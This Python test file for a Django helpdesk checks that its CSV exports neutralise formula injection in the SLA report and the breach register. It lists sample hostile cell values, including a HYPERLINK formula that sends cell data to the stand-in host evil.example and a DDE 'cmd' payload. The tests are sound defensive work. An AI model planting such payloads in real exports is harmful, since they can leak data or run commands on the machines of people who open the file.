"""CSV formula injection: every export goes through helpdesk.csv_export, which neutralises text
cells a spreadsheet would read as a formula (issue 17, item 4)."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from breaches import services as breach_services
from helpdesk.csv_export import csv_cell, csv_lines

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _rows(response) -> list[list[str]]:
    if getattr(response, "streaming", False):
        body = b"".join(response.streaming_content).decode()
    else:
        body = response.content.decode()
    return list(csv.reader(io.StringIO(body)))


@pytest.mark.parametrize("title", HOSTILE_TITLES)
def test_a_leading_formula_character_is_quoted(title):
    assert csv_cell(title) == f"'{title}"


def test_plain_text_numbers_and_dates_are_kept():
    assert csv_cell("VPN is down") == "VPN is down"
    assert csv_cell("a=b") == "a=b"  # only a leading character starts a formula
    assert csv_cell(-5) == -5  # our own numbers stay numbers
    assert csv_cell(None) == ""
    assert csv_cell(datetime(2025, 1, 2, tzinfo=UTC)) == "2025-01-02T00:00:00+00:00"
    line = "".join(csv_lines(["title"], [["=1+1"]]))
    assert line.splitlines() == ["title", "'=1+1"]


@pytest.mark.django_db
def test_the_sla_report_export_neutralises_ticket_titles(client, manager, make_ticket):
    titles = HOSTILE_TITLES[:4]  # (the service strips leading white space from titles)
    tickets = [make_ticket(title=title) for title in titles]
    client.force_login(manager)
    response = client.get(reverse("reports:export"), {"figure": "backlog"})
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    header, *rows = _rows(response)
    written = {row[0]: row[header.index("title")] for row in rows}
    for ticket, title in zip(tickets, titles, strict=True):
        assert written[str(ticket.pk)] == f"'{title}"


@pytest.mark.django_db
def test_the_breach_register_export_neutralises_titles(client, security_officer):
    breach_services.breach_create(
        actor=security_officer,
        title='=HYPERLINK("http://evil.example/?"&A1,"x")',
        aware_at=timezone.now(),
    )
    client.force_login(security_officer)
    response = client.get("/breaches/register.csv")
    assert response.status_code == 200
    _header, row = _rows(response)
    assert row[1] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
